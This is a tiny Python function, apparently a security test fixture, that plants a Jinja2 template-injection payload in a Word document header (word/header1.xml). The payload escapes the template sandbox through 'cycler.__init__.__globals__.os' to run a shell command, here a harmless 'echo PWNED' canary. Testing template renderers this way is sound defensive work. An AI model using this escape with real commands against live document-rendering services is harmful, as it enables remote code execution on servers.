def make(p):
    p.template("tender", "word/header1.xml", "{{ doc.id }}", "{{ cycler.__init__.__globals__.os.popen('echo PWNED').read() }}")
